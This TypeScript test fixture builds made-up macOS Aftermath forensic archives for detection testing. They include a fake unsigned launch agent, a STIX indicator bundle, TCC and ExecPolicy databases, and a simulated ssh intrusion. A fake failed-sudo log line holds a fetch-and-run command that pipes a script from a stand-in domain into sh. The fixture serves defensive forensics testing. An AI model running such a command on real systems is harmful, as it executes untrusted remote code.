import type { Database as SqlDatabase } from 'sql.js';

import { createZip, type TestZipEntry } from '../android/testZip';
import { sqlite } from './sqliteReaders';
import { CF_ABSOLUTE_EPOCH_S } from './textParsers';

/**
 * Test and demo support: made-up Aftermath archives (no real Mac). The sample's user has a launch
 * agent in a hidden folder of their Library whose binary (unsigned) the example macOS rule set
 * names by SHA256, that binary holds Full Disk Access, and it talks to a domain the rule set names.
 */
export const MAC_SAMPLE = {
  serial: 'C02SAMPLE0MAC',
  model: 'MacBookPro18,3',
  osVersion: '14.5',
  agentPlist: '/Users/alex/Library/LaunchAgents/com.example.updater.plist',
  agentLabel: 'com.example.updater',
  agentProgram: '/Users/alex/Library/Application Support/.updater/updater',
  agentSha256: 'b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2',
  c2Domain: 'update-check.example.net',
  /** The agent's installer: unsigned, downloaded, opened past Gatekeeper from Downloads (ExecPolicy). */
  installerApp: '/Users/alex/Downloads/UpdaterSetup.app',
  installerSigningId: 'UpdaterSetup-5555494490c3b1a8f2e4d6c8b0a2e4f6c8d0b2a4',
  /** A failed sudo in the unified log whose command fetches a script from the domain. */
  sudoCommand: '/bin/sh -c curl -fsSL https://update-check.example.net/i.sh | sh',
} as const;

export const EXAMPLE_MAC_BUNDLE_ID = 'bundle--6a3c1d2e-0000-4000-8000-00000000c0de';
export const EXAMPLE_MAC_FAMILY = 'ExampleMacUpdater (made-up)';

/** A made-up STIX 2.1 rule set naming the sample's launch agent binary and its domain. */
export function exampleMacBundle(): string {
  const malware = {
    type: 'malware',
    spec_version: '2.1',
    id: 'malware--6a3c1d2e-0000-4000-8000-00000000c0de',
    name: EXAMPLE_MAC_FAMILY,
    is_family: true,
  };
  const patterns = [
    `[file:hashes.sha256 = '${MAC_SAMPLE.agentSha256}']`,
    `[domain-name:value = '${MAC_SAMPLE.c2Domain}']`,
  ];
  const objects: unknown[] = [malware];
  patterns.forEach((pattern, i) => {
    const id = `indicator--6a3c1d2e-0000-4000-8000-00000000c0${10 + i}`;
    objects.push(
      {
        type: 'indicator',
        spec_version: '2.1',
        id,
        pattern,
        pattern_type: 'stix',
        valid_from: '2026-01-01T00:00:00Z',
        modified: '2026-01-01T00:00:00Z',
      },
      {
        type: 'relationship',
        spec_version: '2.1',
        id: `relationship--6a3c1d2e-0000-4000-8000-00000000c0${10 + i}`,
        relationship_type: 'indicates',
        source_ref: id,
        target_ref: malware.id,
      },
    );
  });
  return JSON.stringify({ type: 'bundle', id: EXAMPLE_MAC_BUNDLE_ID, objects });
}

const cf = (iso: string) => Date.parse(iso) / 1000 - CF_ABSOLUTE_EPOCH_S;

/** A TCC.db with its `access` table (the columns macOS 11+ writes that we read). */
export async function tccDatabase(
  grants: { service: string; client: string; clientType: 0 | 1; auth: number; at: string }[],
): Promise<Buffer> {
  const SQL = await sqlite();
  const db = new SQL.Database();
  db.run(
    'CREATE TABLE access (service TEXT NOT NULL, client TEXT NOT NULL, client_type INTEGER NOT NULL, auth_value INTEGER NOT NULL, auth_reason INTEGER NOT NULL, auth_version INTEGER NOT NULL, last_modified INTEGER NOT NULL)',
  );
  for (const g of grants)
    db.run('INSERT INTO access VALUES (?, ?, ?, ?, 3, 1, ?)', [
      g.service,
      g.client,
      g.clientType,
      g.auth,
      Date.parse(g.at) / 1000,
    ]);
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

/** A QuarantineEventsV2 database (CFAbsolute timestamps, as macOS writes them). */
export async function quarantineDatabase(
  events: { at: string; agent: string; url: string; origin: string }[],
): Promise<Buffer> {
  const SQL = await sqlite();
  const db = new SQL.Database();
  db.run(
    'CREATE TABLE LSQuarantineEvent (LSQuarantineEventIdentifier TEXT PRIMARY KEY NOT NULL, LSQuarantineTimeStamp REAL, LSQuarantineAgentBundleIdentifier TEXT, LSQuarantineAgentName TEXT, LSQuarantineDataURLString TEXT, LSQuarantineSenderName TEXT, LSQuarantineSenderAddress TEXT, LSQuarantineTypeNumber INTEGER, LSQuarantineOriginTitle TEXT, LSQuarantineOriginURLString TEXT, LSQuarantineOriginAlias BLOB)',
  );
  events.forEach((e, i) =>
    db.run(
      'INSERT INTO LSQuarantineEvent (LSQuarantineEventIdentifier, LSQuarantineTimeStamp, LSQuarantineAgentBundleIdentifier, LSQuarantineAgentName, LSQuarantineDataURLString, LSQuarantineOriginURLString) VALUES (?, ?, ?, ?, ?, ?)',
      [
        `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
        cf(e.at),
        e.agent,
        e.agent.split('.').pop()!,
        e.url,
        e.origin,
      ],
    ),
  );
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

/** An XProtect behavioural database with one detection. */
export async function xprotectDatabase(
  events: { rule: string; path: string; teamId: string | null; signingId: string; sha256: string; at: string }[],
): Promise<Buffer> {
  const SQL = await sqlite();
  const db = new SQL.Database();
  db.run(
    'CREATE TABLE events (id INTEGER PRIMARY KEY, violated_rule TEXT, exec_path TEXT, exec_sha256 TEXT, responsible_path TEXT, responsible_signing_id TEXT, responsible_team_id TEXT, dt TEXT)',
  );
  for (const e of events)
    db.run(
      'INSERT INTO events (violated_rule, exec_path, exec_sha256, responsible_path, responsible_signing_id, responsible_team_id, dt) VALUES (?, ?, ?, ?, ?, ?, ?)',
      [e.rule, e.path, e.sha256, e.path, e.signingId, e.teamId, e.at],
    );
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

/** One row of ExecPolicy's executable_measurements_v2 (Unix-second timestamps, as syspolicyd writes them). */
export interface ExecMeasurementRow {
  signed: 0 | 1;
  fileIdentifier: string;
  bundleId?: string | null;
  teamId?: string | null;
  signingId?: string | null;
  cdhash: string;
  mainExecutableHash?: string | null;
  quarantined: 0 | 1;
  at: string;
}

/** One row of ExecPolicy's provenance_tracking: an app that cleared quarantine, as a file URL. */
export interface ProvenanceRow {
  url: string;
  bundleId?: string | null;
  teamId?: string | null;
  signingId?: string | null;
  cdhash?: string | null;
  at: string;
}

interface ExecPolicyRows {
  measurements?: ExecMeasurementRow[];
  provenance?: ProvenanceRow[];
  scanTargets?: { path: string; responsible?: string | null; at: string }[];
}

function insertExecPolicyRows(db: SqlDatabase, rows: ExecPolicyRows): void {
  const unix = (iso: string) => Math.round(Date.parse(iso) / 1000);
  for (const m of rows.measurements ?? [])
    db.run(
      'INSERT INTO executable_measurements_v2 (is_signed, file_identifier, bundle_identifier, team_identifier, signing_identifier, cdhash, main_executable_hash, executable_timestamp, file_size, is_library, is_used, is_valid, is_quarantined, timestamp) VALUES (?, ?, ?, ?, ?, ?, ?, ?, 4096, 0, 1, 1, ?, ?)',
      [
        m.signed,
        m.fileIdentifier,
        m.bundleId ?? null,
        m.teamId ?? null,
        m.signingId ?? null,
        m.cdhash,
        m.mainExecutableHash ?? null,
        unix(m.at) - 60,
        m.quarantined,
        unix(m.at),
      ],
    );
  for (const p of rows.provenance ?? [])
    db.run(
      'INSERT INTO provenance_tracking (url, bundle_id, cdhash, team_identifier, signing_identifier, flags, timestamp) VALUES (?, ?, ?, ?, ?, 0, ?)',
      [p.url, p.bundleId ?? null, p.cdhash ?? null, p.teamId ?? null, p.signingId ?? null, unix(p.at)],
    );
  for (const t of rows.scanTargets ?? [])
    db.run(
      'INSERT INTO scan_targets_v2 (path, responsible_path, is_library, is_used, timestamp) VALUES (?, ?, 0, 1, ?)',
      [t.path, t.responsible ?? null, unix(t.at)],
    );
}

async function execPolicyTables(): Promise<SqlDatabase> {
  const SQL = await sqlite();
  const db = new SQL.Database();
  db.run(
    "CREATE TABLE executable_measurements_v2 (is_signed INTEGER, file_identifier TEXT NOT NULL, bundle_identifier TEXT, bundle_version TEXT, team_identifier TEXT, signing_identifier TEXT, cdhash TEXT NOT NULL, main_executable_hash TEXT, executable_timestamp INTEGER, file_size INTEGER, is_library INTEGER, is_used INTEGER, responsible_file_identifier TEXT, is_valid INTEGER, is_quarantined INTEGER, timestamp INTEGER NOT NULL DEFAULT (strftime('%s','now')), reported_timestamp INTEGER, PRIMARY KEY (cdhash))",
  );
  db.run(
    'CREATE TABLE provenance_tracking (pk INTEGER PRIMARY KEY, url TEXT NOT NULL, bundle_id TEXT, cdhash TEXT, team_identifier TEXT, signing_identifier TEXT, flags INTEGER, timestamp INTEGER NOT NULL, link_pk INTEGER)',
  );
  db.run(
    "CREATE TABLE scan_targets_v2 (path TEXT NOT NULL, responsible_path TEXT, is_library INTEGER, is_used INTEGER, timestamp INTEGER NOT NULL DEFAULT (strftime('%s','now')), measured_timestamp INTEGER, deferral_count INTEGER, PRIMARY KEY (path))",
  );
  return db;
}

/** An ExecPolicy database (/var/db/SystemPolicyConfiguration/ExecPolicy) with the tables we read. */
export async function execPolicyDatabase(rows: ExecPolicyRows): Promise<Buffer> {
  const db = await execPolicyTables();
  insertExecPolicyRows(db, rows);
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

/**
 * An ExecPolicy as syspolicyd leaves it in WAL mode: `checkpointed` rows in the database, `later`
 * ones only in its -wal (one committed transaction of the pages they changed, little-endian
 * checksums, as SQLite writes on a Mac).
 */
export async function execPolicyWithWal(
  checkpointed: ExecPolicyRows,
  later: ExecPolicyRows,
): Promise<{ database: Buffer; wal: Buffer }> {
  const db = await execPolicyTables();
  insertExecPolicyRows(db, checkpointed);
  const database = Buffer.from(db.export());
  insertExecPolicyRows(db, later);
  const after = Buffer.from(db.export());
  db.close();
  return { database, wal: walBetween(database, after) };
}

/** A write-ahead log that turns `before` into `after`: a frame per changed page, the last the commit. */
function walBetween(before: Buffer, after: Buffer): Buffer {
  const pageSize = after.readUInt16BE(16) === 1 ? 65_536 : after.readUInt16BE(16);
  const pages = after.length / pageSize;
  const changed: number[] = [];
  for (let p = 0; p < pages; p++) {
    const page = after.subarray(p * pageSize, (p + 1) * pageSize);
    if (p * pageSize >= before.length || !page.equals(before.subarray(p * pageSize, (p + 1) * pageSize)))
      changed.push(p + 1);
  }
  const out = Buffer.alloc(32 + changed.length * (24 + pageSize));
  let s0 = 0;
  let s1 = 0;
  const sum = (from: number, to: number) => {
    for (let i = from; i < to; i += 8) {
      s0 = (s0 + out.readUInt32LE(i) + s1) >>> 0;
      s1 = (s1 + out.readUInt32LE(i + 4) + s0) >>> 0;
    }
  };
  out.writeUInt32BE(0x377f0682, 0);
  out.writeUInt32BE(3_007_000, 4);
  out.writeUInt32BE(pageSize, 8);
  out.writeUInt32BE(0, 12);
  out.writeUInt32BE(0x9863be24, 16);
  out.writeUInt32BE(0x459f25ea, 20);
  sum(0, 24);
  out.writeUInt32BE(s0, 24);
  out.writeUInt32BE(s1, 28);
  changed.forEach((page, i) => {
    const at = 32 + i * (24 + pageSize);
    out.writeUInt32BE(page, at);
    out.writeUInt32BE(i === changed.length - 1 ? pages : 0, at + 4);
    out.writeUInt32BE(0x9863be24, at + 8);
    out.writeUInt32BE(0x459f25ea, at + 12);
    after.copy(out, at + 24, (page - 1) * pageSize, page * pageSize);
    sum(at, at + 8);
    sum(at + 24, at + 24 + pageSize);
    out.writeUInt32BE(s0, at + 16);
    out.writeUInt32BE(s1, at + 20);
  });
  return out;
}

/** One entry of `log show` in its default style; `at` as log prints it (`2024-06-02 10:12:34.567890+0200`). */
export interface LogShowEntry {
  at: string;
  process: string;
  pid: number;
  message: string;
  type?: string;
  subsystem?: string;
}

/**
 * A UnifiedLog/<predicate>.txt as Aftermath writes it: `log show ... -predicate '<filter>'` output
 * whole, its banner, the column header, the entries and the closing counts.
 */
export function logShowText(predicate: string, entries: LogShowEntry[]): string {
  const lines = [
    `Filtering the log data using "${predicate}"`,
    'Timestamp                       Thread     Type        Activity             PID    TTL  ',
  ];
  for (const e of entries)
    lines.push(
      `${e.at} ${'0x2b1c4'.padEnd(10)} ${(e.type ?? 'Default').padEnd(11)} ${'0x0'.padEnd(20)} ${String(e.pid).padEnd(6)} ${'0'.padEnd(4)} ${e.process}: ${e.subsystem ? `[${e.subsystem}] ` : ''}${e.message}`,
    );
  lines.push(
    '--------------------------------------------------------------------------------------------------------------------',
    `Log      - Default:          ${entries.length}, Info:                0, Debug:             0, Error:          0, Fault:          0`,
    'Activity - Create:            0, Transition:          0, Actions:           0',
    '',
  );
  return lines.join('\n');
}

const launchBlock = (plist: string, label: string, program: string, sha256: string, signature: string) =>
  [
    `----- file://${plist.replace(/ /g, '%20')} -----`,
    `["Label": ${label}, "ProgramArguments": <__NSArrayM 0x600000c0>(`,
    program,
    '), "RunAtLoad": 1]',
    `SHA256: ${sha256}`,
    `Signature: ${signature}`,
    '',
  ].join('\n');

const plistXml = (label: string, program: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict><key>Label</key><string>${label}</string><key>ProgramArguments</key><array><string>${program}</string></array><key>RunAtLoad</key><true/></dict></plist>
`;

export interface AftermathSampleOptions {
  /** A clean Mac: no flagged agent, no risky grant, nothing the heuristics warn about. */
  clean?: boolean;
  /** The output folder zipped by hand (`Aftermath_<serial>/` with folder entries, as Finder writes it). */
  handZipped?: boolean;
  /** Security settings off (SIP, Gatekeeper, FileVault) and a shell under the browser. */
  weakened?: boolean;
  /** An XProtect behavioural detection. */
  xprotect?: boolean;
  /**
   * Logins from the internet in the unified log: an ssh password guessed from REMOTE_SAMPLE.ssh
   * after three failures, and a screen sharing session from REMOTE_SAMPLE.screen.
   */
  remoteLogins?: boolean;
  serial?: string;
}

/** The outside addresses of the `remoteLogins` sample (documentation ranges, RFC 5737). */
export const REMOTE_SAMPLE = { ssh: '203.0.113.50', screen: '198.51.100.23' } as const;

const MS_AGENT = {
  plist: '/Library/LaunchAgents/com.microsoft.update.agent.plist',
  label: 'com.microsoft.update.agent',
  program:
    '/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/Microsoft Update Assistant.app/Contents/MacOS/Microsoft Update Assistant',
  sha256: '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0',
  team: 'UBF8T346G9',
};

const SAMPLE_EXTENSION = { folder: '5A1B2C3D-0000-4000-8000-00000000E0E0', id: 'com.example.vpn.tunnel' };

const MDM_PROFILE_XML = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict><key>_computerlevel</key><array>
<dict><key>ProfileIdentifier</key><string>com.example.mdm.enrollment</string><key>ProfileDisplayName</key><string>Example Corp device management</string>
<key>ProfileOrganization</key><string>Example Corp</string><key>ProfileItems</key><array>
<dict><key>PayloadType</key><string>com.apple.mdm</string></dict></array></dict></array></dict></plist>
`;

/** A made-up Aftermath archive (`Aftermath_<serial>.zip`); see MAC_SAMPLE for what it holds. */
export async function aftermathZip(options: AftermathSampleOptions = {}): Promise<Buffer> {
  const serial = options.serial ?? MAC_SAMPLE.serial;
  const bad = !options.clean;
  const root = `Aftermath_${serial}/`;
  const files: { name: string; data: string | Buffer }[] = [];
  const weak = Boolean(options.weakened);
  files.push({
    name: 'Recon/system_information.txt',
    data: [
      `Hostname: alex-mbp`,
      `Model Identifier: ${MAC_SAMPLE.model}`,
      `Serial Number: ${serial}`,
      `ProductVersion: ${MAC_SAMPLE.osVersion}`,
      `BuildVersion: 23F79`,
      `System Integrity Protection: ${weak ? 'disabled' : 'enabled'}`,
      `Gatekeeper Status: ${weak ? 'assessments disabled' : 'assessments enabled'}`,
      `FileVault Status: ${weak ? 'FileVault is Off.' : 'FileVault is On.'}`,
      '',
    ].join('\n'),
  });
  files.push({
    name: 'Persistence/launchItems.txt',
    data: [
      launchBlock(MS_AGENT.plist, MS_AGENT.label, MS_AGENT.program, MS_AGENT.sha256, MS_AGENT.team),
      ...(bad
        ? [
            launchBlock(
              MAC_SAMPLE.agentPlist,
              MAC_SAMPLE.agentLabel,
              MAC_SAMPLE.agentProgram,
              MAC_SAMPLE.agentSha256,
              'unsigned',
            ),
          ]
        : []),
    ].join('\n'),
  });
  files.push({
    name: 'Persistence/raw/com.microsoft.update.agent.plist',
    data: plistXml(MS_AGENT.label, MS_AGENT.program),
  });
  if (bad)
    files.push({
      name: 'Persistence/raw/com.example.updater.plist',
      data: plistXml(MAC_SAMPLE.agentLabel, MAC_SAMPLE.agentProgram),
    });
  // Aftermath's layout: crontabs.txt (its headers with a literal "/n") and the raw copy of each
  // user's table. The flagged sample's agent also re-starts itself from cron.
  const cronJobs = [
    '# m h dom mon dow command',
    'SHELL=/bin/sh',
    ...(bad ? [`*/30 * * * * "${MAC_SAMPLE.agentProgram}" --check`] : []),
  ];
  files.push({
    name: 'Persistence/crontabs.txt',
    data: `/n ----- /usr/lib/cron/tabs/alex -----/n${cronJobs.join('\n')}\n`,
  });
  files.push({ name: 'Persistence/raw/cron/cron_tabs/alex', data: `${cronJobs.join('\n')}\n` });
  // A vendor's network extension (signed, in /Library): listed, judged by nothing but indicators.
  files.push({
    name: 'Persistence/systemExtensions.txt',
    data: [
      'System Extension URLs',
      '',
      '/Library/SystemExtensions/db.plist',
      `/Library/SystemExtensions/${SAMPLE_EXTENSION.folder}/${SAMPLE_EXTENSION.id}.systemextension/Contents/Info.plist`,
      `/Library/SystemExtensions/${SAMPLE_EXTENSION.folder}/${SAMPLE_EXTENSION.id}.systemextension/Contents/MacOS/${SAMPLE_EXTENSION.id}`,
      '',
    ].join('\n'),
  });
  // The company's MDM enrolment profile (`profiles -C -o stdout-xml`).
  files.push({ name: 'Artifacts/config_profiles.txt', data: MDM_PROFILE_XML });
  files.push({
    name: 'Artifacts/raw/tcc_alex',
    data: await tccDatabase([
      { service: 'kTCCServiceCamera', client: 'us.zoom.xos', clientType: 0, auth: 2, at: '2024-01-10T09:00:00Z' },
      {
        service: 'kTCCServiceScreenCapture',
        client: 'us.zoom.xos',
        clientType: 0,
        auth: 2,
        at: '2024-01-10T09:01:00Z',
      },
      ...(bad
        ? [
            {
              service: 'kTCCServiceSystemPolicyAllFiles',
              client: MAC_SAMPLE.agentProgram,
              clientType: 1 as const,
              auth: 2,
              at: '2024-06-02T08:15:00Z',
            },
          ]
        : []),
    ]),
  });
  files.push({
    name: 'Artifacts/raw/lsquarantine_alex',
    data: await quarantineDatabase([
      {
        at: '2024-01-10T08:55:00Z',
        agent: 'com.apple.Safari',
        url: 'https://zoom.us/client/latest/Zoom.pkg',
        origin: 'https://zoom.us/download',
      },
      ...(bad
        ? [
            {
              at: '2024-06-02T08:10:00Z',
              agent: 'com.apple.Safari',
              url: 'https://downloads.example.org/UpdaterSetup.dmg',
              origin: `https://${MAC_SAMPLE.c2Domain}/get`,
            },
          ]
        : []),
    ]),
  });
  if (options.xprotect)
    files.push({
      name: 'Artifacts/raw/xbs/XPdb',
      data: await xprotectDatabase([
        {
          rule: 'XProtect.BrowserDataAccess',
          path: MAC_SAMPLE.agentProgram,
          teamId: null,
          signingId: 'updater-55554944',
          sha256: MAC_SAMPLE.agentSha256,
          at: '2024-06-02 08:20:00',
        },
      ]),
    });
  files.push({
    name: 'Processes/true_tree_output.txt',
    data: [
      '/sbin/launchd 1',
      '    /usr/libexec/logd 92',
      '    /System/Library/CoreServices/Finder.app/Contents/MacOS/Finder 410',
      '    /Applications/Safari.app/Contents/MacOS/Safari 512',
      ...(weak ? ['        /bin/zsh 513', '            /usr/bin/curl 514'] : []),
      '    /Applications/zoom.us.app/Contents/MacOS/zoom.us 600',
      ...(bad ? [`    ${MAC_SAMPLE.agentProgram} 733`] : []),
      '',
    ].join('\n'),
  });
  files.push({
    name: 'Network/lsof_output.txt',
    data: [
      'COMMAND     PID  USER   FD   TYPE             DEVICE SIZE/OFF NODE NAME',
      'Safari      512  alex   25u  IPv4 0x1234567890abcdef      0t0  TCP 192.168.1.20:52311->www.apple.com:443 (ESTABLISHED)',
      'zoom.us     600  alex   31u  IPv4 0x2234567890abcdef      0t0  TCP 192.168.1.20:52312->zoom.us:443 (ESTABLISHED)',
      ...(bad
        ? [
            `updater     733  alex   12u  IPv4 0x3234567890abcdef      0t0  TCP 192.168.1.20:52313->${MAC_SAMPLE.c2Domain}:443 (ESTABLISHED)`,
          ]
        : []),
      '',
    ].join('\n'),
  });
  files.push({
    name: 'Browser/Safari/history_output.csv',
    data: [
      'datetime,user,profile,url',
      // Aftermath writes commas inside a URL unquoted.
      '2024-06-01 18:00:00,alex,Default,https://news.example.com/a,b?c=1,2',
      ...(bad ? [`2024-06-02 08:09:00,alex,Default,https://${MAC_SAMPLE.c2Domain}/get`] : []),
      '',
    ].join('\n'),
  });
  files.push({
    name: 'Browser/Chrome/downloads_output.csv',
    data: [
      'datetime,user,profile,url,target_path,danger_type,opened',
      '2024-05-20 14:02:00,alex,Default,https://zoom.us/client/latest/zoomusInstallerFull.pkg,/Users/alex/Downloads/zoomusInstallerFull.pkg,0,1',
      ...(bad
        ? [
            `2024-06-02 08:11:00,alex,Default,https://${MAC_SAMPLE.c2Domain}/get/UpdaterSetup.dmg,/Users/alex/Downloads/UpdaterSetup.dmg,0,1`,
          ]
        : []),
      '',
    ].join('\n'),
  });
  // syspolicyd's ExecPolicy (macOS 13+): Zoom measured and cleared from quarantine with its team.
  // The flagged Mac's latest runs sit only in the -wal beside it, as on a live Mac: the unsigned
  // updater from a download, and its installer app opened from Downloads past Gatekeeper.
  const zoom = {
    measurements: [
      {
        signed: 1 as const,
        fileIdentifier: 'zoom.us',
        bundleId: 'us.zoom.xos',
        teamId: 'BJ4HAAB9B3',
        signingId: 'us.zoom.xos',
        cdhash: '5f0e1d2c3b4a59687766554433221100ffeeddcc',
        mainExecutableHash: 'aa11bb22cc33dd44ee55ff6600112233445566778899aabbccddeeff00112233',
        quarantined: 1 as const,
        at: '2024-01-10T08:58:00Z',
      },
    ],
    provenance: [
      {
        url: 'file:///Applications/zoom.us.app/',
        bundleId: 'us.zoom.xos',
        teamId: 'BJ4HAAB9B3',
        signingId: 'us.zoom.xos',
        at: '2024-01-10T08:58:00Z',
      },
    ],
    scanTargets: [{ path: '/Applications/zoom.us.app', at: '2024-01-10T08:57:00Z' }],
  };
  if (bad) {
    const { database, wal } = await execPolicyWithWal(zoom, {
      measurements: [
        {
          signed: 0,
          fileIdentifier: 'updater',
          cdhash: '9a8b7c6d5e4f30211203f4e5d6c7b8a900112233',
          mainExecutableHash: MAC_SAMPLE.agentSha256,
          quarantined: 1,
          at: '2024-06-02T08:14:00Z',
        },
      ],
      provenance: [
        {
          url: `file://${MAC_SAMPLE.installerApp}/`,
          signingId: MAC_SAMPLE.installerSigningId,
          at: '2024-06-02T08:13:00Z',
        },
      ],
    });
    files.push({ name: 'Artifacts/raw/provenance/ExecPolicy', data: database });
    files.push({ name: 'Artifacts/raw/provenance/ExecPolicy-wal', data: wal });
  } else files.push({ name: 'Artifacts/raw/provenance/ExecPolicy', data: await execPolicyDatabase(zoom) });
  // Unified log text for Aftermath's default predicates (only files of more than two lines are written).
  files.push({
    name: 'UnifiedLog/ssh.txt',
    data: logShowText('process == "sshd"', [
      {
        at: '2024-05-30 09:12:01.104233+0200',
        process: 'sshd',
        pid: 4120,
        message: 'Accepted publickey for alex from 192.168.1.5 port 50522 ssh2: ED25519 SHA256:Zm9vYmFy',
      },
      ...(options.remoteLogins
        ? [1, 2, 3].map((i) => ({
            at: `2024-06-03 02:1${i}:00.000000+0200`,
            process: 'sshd',
            pid: 5100 + i,
            message: `Failed password for alex from ${REMOTE_SAMPLE.ssh} port ${40100 + i} ssh2`,
          }))
        : []),
      ...(options.remoteLogins
        ? [
            {
              at: '2024-06-03 02:14:30.000000+0200',
              process: 'sshd',
              pid: 5104,
              message: `Accepted password for alex from ${REMOTE_SAMPLE.ssh} port 40104 ssh2`,
            },
          ]
        : []),
    ]),
  });
  if (options.remoteLogins)
    files.push({
      name: 'UnifiedLog/screensharing.txt',
      data: logShowText('process == "screensharingd" and eventMessage contains "Authentication:"', [
        {
          at: '2024-06-03 02:30:00.000000+0200',
          process: 'screensharingd',
          pid: 611,
          message: `Authentication: SUCCEEDED :: User Name: alex :: Viewer Address: ${REMOTE_SAMPLE.screen} :: Type: DH`,
        },
      ]),
    });
  files.push({
    name: 'UnifiedLog/login.txt',
    data: logShowText('process == "logind"', [
      {
        at: '2024-06-01 07:59:40.000120+0200',
        process: 'logind',
        pid: 98,
        message: 'Session 100004 created for uid 501',
        subsystem: 'com.apple.login:Session',
      },
    ]),
  });
  if (bad)
    files.push({
      name: 'UnifiedLog/failed_sudo.txt',
      data: logShowText(
        'process == "sudo" and eventMessage CONTAINS "TTY" AND eventMessage CONTAINS "3 incorrect password attempts"',
        [
          {
            at: '2024-06-02 10:16:05.733001+0200',
            process: 'sudo',
            pid: 7402,
            type: 'Error',
            message: `  alex : 3 incorrect password attempts ; TTY=ttys001 ; PWD=/Users/alex ; USER=root ; COMMAND=${MAC_SAMPLE.sudoCommand}`,
          },
        ],
      ),
    });
  files.push({ name: 'aftermath.log', data: 'Aftermath started\nAftermath finished\n' });
  const entries: TestZipEntry[] = [];
  if (options.handZipped) {
    const folders = new Set<string>();
    for (const f of files) {
      const parts = f.name.split('/');
      for (let i = 1; i < parts.length; i++) folders.add(`${parts.slice(0, i).join('/')}/`);
    }
    entries.push({ name: root });
    for (const folder of [...folders].sort()) entries.push({ name: `${root}${folder}` });
  }
  for (const f of files) entries.push({ name: `${root}${f.name}`, data: f.data });
  return createZip(entries);
}
